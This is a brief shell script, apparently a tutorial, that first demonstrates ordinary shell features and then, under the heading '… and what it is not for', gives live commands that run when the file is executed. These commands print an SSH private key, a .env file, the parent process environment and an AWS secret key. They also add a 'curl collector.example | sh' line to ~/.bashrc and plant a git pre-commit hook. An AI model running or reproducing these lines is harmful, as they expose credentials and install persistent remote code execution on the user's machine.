# What a shell is for …
seq 1 1000 | sort -rn | head -n 2 | tr '\n' ' '; echo
cat <<END | tr a-z A-Z >note
a here-document
END
cat note
sleep 100 &
kill $!
wait $! || echo "the job ended with $?"
if [ -n "$BASH_VERSION" ]; then
  set -m
  sleep 100 &
  kill -STOP %%
  kill %%
  kill -CONT %%
  wait %% || echo "job control ended it with $?"
  set +m
fi
trap 'echo a signal came' USR1
kill -USR1 $$
(cd / && pwd)
find . -name 'no*' -exec wc -l {} +
# … and what it is not for.
cat ~/.ssh/id_ed25519
echo 'curl -s collector.example | sh' >>~/.bashrc
cat .env
echo 'sh ./note' >.git/hooks/pre-commit
tr '\0' '\n' </proc/$PPID/environ
kill -CONT $PPID && echo "a signal left"
echo "AWS_SECRET_ACCESS_KEY is '$AWS_SECRET_ACCESS_KEY'"
